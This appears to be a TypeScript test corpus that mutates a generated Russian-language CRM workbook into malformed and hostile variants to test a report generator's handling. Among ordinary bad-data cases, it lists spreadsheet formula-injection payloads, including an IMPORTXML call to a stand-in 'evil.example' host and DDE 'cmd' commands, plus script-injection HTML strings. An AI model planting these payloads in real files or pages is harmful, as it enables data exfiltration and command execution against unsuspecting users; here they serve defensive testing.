/**
 * The corpus: broken and hostile workbooks, built from a small clean generated workbook by one mutation each.
 * Committed as code, written to a temp directory at test time. Each case says how it must end: reports
 * written with the problems counted on the Data quality sheet, or a one-line refusal naming what is wrong.
 */
import type { Cell, TabData } from '../../src/core/model';
import { DEAL_HEADER, LEAD_HEADER, COST_HEADER, generateWorkbook } from '../../examples/generate';
import type { QualityCheckKey } from '../../src/core/model';

/** Text that a careless writer turns into a formula (or a spreadsheet app into a command). */
export const FORMULA_PAYLOADS = [
  '=IMPORTXML("http://evil.example/x","//a")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
] as const;

export type Outcome =
  /** Reports written; the listed Data quality checks count at least one problem. */
  | { kind: 'reports'; counted?: QualityCheckKey[]; values?: string[] }
  /** No Ad payback sheet; one alert line matching every pattern. */
  | { kind: 'refusal'; mentions: RegExp[] }
  /** The file cannot be loaded at all: a HostInputError with this message. */
  | { kind: 'notWorkbook'; mentions: RegExp };

export interface CorpusCase {
  name: string;
  /** Tabs to write as .xlsx, or raw bytes for files that are not workbooks. */
  build: () => TabData[] | Uint8Array;
  outcome: Outcome;
}

const LEAD = Object.fromEntries(LEAD_HEADER.map((h, i) => [h, i])) as Record<string, number>;
const DEAL = Object.fromEntries(DEAL_HEADER.map((h, i) => [h, i])) as Record<string, number>;
const COST = Object.fromEntries(COST_HEADER.map((h, i) => [h, i])) as Record<string, number>;
/** Rows above the first lead data row: the title, a blank row, the header. */
const LEAD_FIRST = 3;

/** A small clean workbook: 150 leads over two months ending 2026-11-30, with the settings tabs. */
export function baseTabs(): TabData[] {
  return generateWorkbook({ leads: 150, months: 2, messy: false });
}

function tab(tabs: TabData[], name: string): TabData {
  const t = tabs.find((x) => x.name === name);
  if (!t) throw new Error(`no tab ${name}`);
  return t;
}

/** Rows of a tab below its header, as references to mutate in place. */
function dataRows(tabs: TabData[], name: string): Cell[][] {
  const first = name === 'Лиды' ? LEAD_FIRST : 1;
  return tab(tabs, name).values.slice(first);
}

/** Leads created in November (the reported period) are the ones whose problems a report shows. */
function novemberRows(tabs: TabData[], name: 'Лиды' | 'Сделки'): Cell[][] {
  const col = name === 'Лиды' ? LEAD['Дата создания'] : DEAL['Дата создания'];
  return dataRows(tabs, name).filter((r) => r[col] instanceof Date && (r[col] as Date).getUTCMonth() === 10);
}

function withBase(mutate: (tabs: TabData[]) => void): () => TabData[] {
  return () => {
    const tabs = baseTabs();
    mutate(tabs);
    return tabs;
  };
}

function setColumn(rows: Cell[][], col: number, values: readonly Cell[]): void {
  rows.forEach((r, i) => (r[col] = values[i % values.length]));
}

const wonDeals = (tabs: TabData[]): Cell[][] =>
  novemberRows(tabs, 'Сделки').filter((r) => /WON|успешн/i.test(String(r[DEAL['Стадия сделки']])));

/** Every text column of the three data tabs gets the payload in some November rows. */
function payloadEverywhere(payload: string): (tabs: TabData[]) => void {
  return (tabs) => {
    const leads = novemberRows(tabs, 'Лиды').slice(0, 6);
    for (const h of [
      'Название лида',
      'Источник',
      'UTM Source',
      'UTM Medium',
      'UTM Campaign',
      'Ответственный',
      'Статус',
    ])
      leads.forEach((r) => (r[LEAD[h]] = payload));
    const deals = novemberRows(tabs, 'Сделки').slice(0, 6);
    for (const h of [
      'Название',
      'Стадия сделки',
      'Валюта',
      'Ответственный',
      'Источник',
      'UTM Source',
      'Воронка',
    ])
      deals.forEach((r) => (r[DEAL[h]] = payload));
    const costs = dataRows(tabs, 'Расходы').slice(-6);
    for (const h of ['Источник', 'Кампания']) costs.forEach((r) => (r[COST[h]] = payload));
    // An ID and a lead reference that are formula-like text too.
    leads[0][LEAD.ID] = payload;
    deals[0][DEAL['ID лида']] = payload;
  };
}

function bytes(text: string): Uint8Array {
  return new TextEncoder().encode(text);
}

function randomBytes(n: number, seed: number): Uint8Array {
  const out = new Uint8Array(n);
  let x = seed;
  for (let i = 0; i < n; i++) {
    x = (x * 1_103_515_245 + 12_345) >>> 0;
    out[i] = x >>> 24;
  }
  return out;
}

const LONG = 50_000;

export const CASES: CorpusCase[] = [
  {
    name: 'amounts as words',
    build: withBase((t) => setColumn(wonDeals(t), DEAL['Сумма'], ['пять тысяч', 'десять', 'много'])),
    outcome: { kind: 'reports', counted: ['unreadableValues', 'wonWithoutAmount'] },
  },
  {
    name: 'negative amounts and costs',
    build: withBase((t) => {
      setColumn(wonDeals(t), DEAL['Сумма'], [-5, '-1 500,50']);
      setColumn(dataRows(t, 'Расходы').slice(-5), COST['Расход'], [-100]);
    }),
    outcome: { kind: 'reports' },
  },
  {
    name: 'absurd amounts (1e308, Infinity, NaN text)',
    build: withBase((t) => setColumn(wonDeals(t), DEAL['Сумма'], [1e308, 1e308, 'Infinity', 'NaN', '1e999'])),
    outcome: { kind: 'reports' },
  },
  {
    name: 'impossible dates',
    build: withBase((t) =>
      setColumn(novemberRows(t, 'Лиды').slice(0, 4), LEAD['Дата создания'], [
        '31.02.2026',
        '2026-13-45',
        '00.00.0000',
        '32/11/2026',
      ]),
    ),
    outcome: { kind: 'reports', counted: ['unreadableValues'] },
  },
  {
    name: 'dates as serial numbers',
    build: withBase((t) =>
      setColumn(novemberRows(t, 'Лиды').slice(0, 10), LEAD['Дата создания'], [46342, 46345.5, '46350']),
    ),
    outcome: { kind: 'reports' },
  },
  {
    name: 'text dates with time',
    build: withBase((t) =>
      setColumn(novemberRows(t, 'Сделки').slice(0, 6), DEAL['Дата создания'], [
        '15.11.2026 14:30',
        '2026-11-16T09:05:00',
        '17.11.2026 23:59:59',
        '2026-11-18 00:00',
      ]),
    ),
    outcome: { kind: 'reports' },
  },
  {
    name: 'mixed decimal separators',
    build: withBase((t) =>
      setColumn(wonDeals(t), DEAL['Сумма'], [
        '1 500,50 ₽',
        '1,500.50',
        '1.500,50',
        '1500.5',
        '1 500.50 $',
        '12,5',
      ]),
    ),
    outcome: { kind: 'reports' },
  },
  {
    name: 'dates far out of range',
    build: withBase((t) =>
      setColumn(novemberRows(t, 'Лиды').slice(0, 3), LEAD['Дата создания'], ['01.01.9999', '01.01.0001', -5]),
    ),
    outcome: { kind: 'reports' },
  },
  {
    name: 'missing required column (Leads: created)',
    build: withBase((t) => {
      for (const row of tab(t, 'Лиды').values) row.splice(LEAD['Дата создания'], 1);
    }),
    outcome: { kind: 'refusal', mentions: [/Лиды/, /Дата создания/] },
  },
  {
    name: 'renamed required column (Deals: amount → Деньги)',
    build: withBase((t) => (tab(t, 'Сделки').values[0][DEAL['Сумма']] = 'Деньги')),
    outcome: { kind: 'refusal', mentions: [/Сделки/, /Сумма/] },
  },
  {
    name: 'missing Deals tab',
    build: withBase((t) => t.splice(t.indexOf(tab(t, 'Сделки')), 1)),
    outcome: { kind: 'refusal', mentions: [/Сделки/] },
  },
  {
    name: 'header rows below title rows',
    build: withBase((t) => {
      const deals = tab(t, 'Сделки');
      const blank = (): Cell[] => DEAL_HEADER.map(() => '');
      const title = blank();
      title[0] = 'Выгрузка сделок из Битрикс24';
      const note = blank();
      note[1] = 'сформировано 01.12.2026';
      deals.values.unshift(title, blank(), note, blank());
    }),
    outcome: { kind: 'reports' },
  },
  {
    name: 'empty Leads tab',
    build: withBase((t) => (tab(t, 'Лиды').values = [])),
    outcome: { kind: 'refusal', mentions: [/Лиды/] },
  },
  {
    name: 'Leads and Deals with only a header',
    build: withBase((t) => {
      tab(t, 'Лиды').values = [LEAD_HEADER.slice()];
      tab(t, 'Сделки').values = [DEAL_HEADER.slice()];
    }),
    outcome: { kind: 'reports' },
  },
  {
    name: 'every tab empty',
    build: () => [
      { name: 'Лиды', values: [] },
      { name: 'Сделки', values: [] },
      { name: 'Расходы', values: [] },
    ],
    outcome: { kind: 'refusal', mentions: [/Лиды|Сделки/] },
  },
  {
    name: 'duplicate IDs',
    build: withBase((t) => {
      const leads = novemberRows(t, 'Лиды');
      leads.slice(1, 5).forEach((r) => (r[LEAD.ID] = leads[0][LEAD.ID]));
      const deals = novemberRows(t, 'Сделки');
      deals.slice(1, 3).forEach((r) => (r[DEAL.ID] = deals[0][DEAL.ID]));
    }),
    outcome: { kind: 'reports', counted: ['duplicateIds'] },
  },
  {
    name: 'missing IDs',
    build: withBase((t) => {
      novemberRows(t, 'Лиды')
        .slice(0, 5)
        .forEach((r) => (r[LEAD.ID] = ''));
      novemberRows(t, 'Сделки')
        .slice(0, 3)
        .forEach((r) => (r[DEAL.ID] = ' '));
    }),
    outcome: { kind: 'reports', counted: ['unreadableValues'] },
  },
  {
    name: 'deals pointing at unknown leads',
    build: withBase((t) =>
      setColumn(novemberRows(t, 'Сделки').slice(0, 5), DEAL['ID лида'], [999_999, 'L-404', 0]),
    ),
    outcome: { kind: 'reports', counted: ['unknownLeads'] },
  },
  {
    name: 'unknown stages',
    build: withBase((t) =>
      setColumn(novemberRows(t, 'Сделки').slice(0, 5), DEAL['Стадия сделки'], [
        'На согласовании у юриста',
        'C9:SOMETHING',
        '???',
      ]),
    ),
    outcome: { kind: 'reports', counted: ['unknownStages'] },
  },
  {
    name: 'unknown currencies',
    build: withBase((t) => setColumn(wonDeals(t), DEAL['Валюта'], ['XYZ', 'рублей', 'BTC'])),
    outcome: { kind: 'reports', counted: ['unknownCurrencies'] },
  },
  {
    name: '50,000-character cells in text columns',
    build: withBase((t) => {
      const leads = novemberRows(t, 'Лиды').slice(0, 3);
      leads[0][LEAD['Название лида']] = 'т'.repeat(LONG);
      leads[1][LEAD['UTM Source']] = 'u'.repeat(LONG);
      leads[2][LEAD['Ответственный']] = 'M'.repeat(LONG);
      const deals = novemberRows(t, 'Сделки').slice(0, 2);
      deals[0][DEAL['Стадия сделки']] = 's'.repeat(LONG);
      deals[1][DEAL['Валюта']] = 'c'.repeat(LONG);
    }),
    outcome: { kind: 'reports', counted: ['unknownStages', 'unknownCurrencies'] },
  },
  {
    name: '50,000-character IDs',
    build: withBase((t) => {
      novemberRows(t, 'Лиды')
        .slice(0, 3)
        .forEach((r, i) => (r[LEAD.ID] = String(i).repeat(LONG)));
      novemberRows(t, 'Сделки')
        .slice(0, 2)
        .forEach((r, i) => (r[DEAL['ID лида']] = String(i + 5).repeat(LONG)));
    }),
    outcome: { kind: 'reports', counted: ['unknownLeads'] },
  },
  {
    name: '50,000-character formula-like text',
    build: withBase((t) => {
      novemberRows(t, 'Лиды')
        .slice(0, 2)
        .forEach((r) => (r[LEAD['UTM Source']] = '=' + 'A'.repeat(LONG - 1)));
      novemberRows(t, 'Лиды')
        .slice(2, 4)
        .forEach((r) => (r[LEAD['Ответственный']] = '+' + '7'.repeat(LONG - 1)));
    }),
    outcome: { kind: 'reports' },
  },
  ...FORMULA_PAYLOADS.map((payload): CorpusCase => ({
    name: `formula-like text in every text column: ${JSON.stringify(payload)}`,
    build: withBase(payloadEverywhere(payload)),
    outcome: { kind: 'reports', values: [payload] },
  })),
  {
    name: 'formula-like text in the settings tabs (Sources, Manual costs)',
    build: withBase((t) => {
      const sources = tab(t, 'Источники').values;
      sources.push([
        '=IMPORTXML("http://evil.example","//a")',
        'платный',
        "=cmd|' /C calc'!A0, +evil, @x",
        '#ff0000',
      ]);
      sources.push(['@mention', 'органический', '-minus', '=1+1']);
      const costs = tab(t, 'Ручные расходы').values;
      const row = costs[1].slice();
      row[0] = '=IMPORTXML("http://evil.example","//a")';
      row[6] = '+category';
      row[7] = "=cmd|' /C calc'!A0";
      costs.push(row);
      // Data that the hostile rules match.
      setColumn(novemberRows(t, 'Лиды').slice(0, 3), LEAD['UTM Source'], ['+evil', '-minus']);
    }),
    outcome: { kind: 'reports', values: ['=IMPORTXML("http://evil.example","//a")', '@mention'] },
  },
  {
    name: 'HTML and control characters in text',
    build: withBase((t) => {
      const rows = novemberRows(t, 'Лиды').slice(0, 4);
      setColumn(rows, LEAD['UTM Source'], ['<img src=x onerror=alert(1)>', '<script>alert(1)</script>']);
      setColumn(rows, LEAD['Ответственный'], ['Анна\u202eанм', 'Null\u0000Byte', 'Tab\there', 'Line\nbreak']);
    }),
    outcome: { kind: 'reports', values: ['<img src=x onerror=alert(1)>'] },
  },
  {
    name: 'booleans and error texts in number and date columns',
    build: withBase((t) => {
      setColumn(wonDeals(t), DEAL['Сумма'], [true, '#REF!', '#N/A', '#DIV/0!']);
      setColumn(novemberRows(t, 'Лиды').slice(0, 3), LEAD['Дата создания'], [false, '#VALUE!', 'вчера']);
    }),
    outcome: { kind: 'reports', counted: ['unreadableValues'] },
  },
  {
    name: 'a tab name with surrounding spaces and other case',
    build: withBase((t) => (tab(t, 'Лиды').name = '  лиды ')),
    outcome: { kind: 'reports' },
  },
  {
    name: 'random bytes named .xlsx',
    build: () => randomBytes(4096, 7),
    outcome: { kind: 'notWorkbook', mentions: /Not a readable \.xlsx workbook/ },
  },
  {
    name: 'an empty file named .xlsx',
    build: () => new Uint8Array(0),
    outcome: { kind: 'notWorkbook', mentions: /Not a readable \.xlsx workbook/ },
  },
  {
    name: 'a text (CSV) file named .xlsx',
    build: () => bytes('ID;Дата создания;Источник\n1;01.11.2026;yandex\n'),
    outcome: { kind: 'notWorkbook', mentions: /Not a readable \.xlsx workbook/ },
  },
  {
    name: 'a zip header followed by garbage',
    build: () => {
      const b = randomBytes(2048, 11);
      b.set([0x50, 0x4b, 0x03, 0x04], 0);
      return b;
    },
    outcome: { kind: 'notWorkbook', mentions: /Not a readable \.xlsx workbook/ },
  },
];
